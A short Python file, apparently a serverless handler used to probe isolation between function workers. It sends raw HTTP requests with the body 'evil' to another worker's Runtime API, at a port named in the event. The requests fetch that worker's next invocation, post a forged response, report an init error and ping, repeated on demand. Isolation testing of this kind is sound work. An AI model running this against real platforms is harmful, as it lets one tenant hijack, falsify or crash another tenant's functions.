"""Calls the Runtime API of another function's worker, at the port that its event names."""
import socket

INVOCATION = " /2018-06-01/runtime/invocation/"
REQUESTS = [
    "GET" + INVOCATION + "next",
    "POST" + INVOCATION + "00000000-0000-0000-0000-000000000000/response",
    "POST /2018-06-01/runtime/init/error",
    "GET /2018-06-01/ping",
]


def ask(port, request):
    try:
        with socket.create_connection(("127.0.0.1", port), 10) as api:
            api.sendall((request + " HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\n\r\nevil").encode())
            return api.recv(1000).decode()
    except ConnectionError:
        return ""


def handler(event, context):
    return [ask(event["port"], request) for request in REQUESTS * event["times"]]
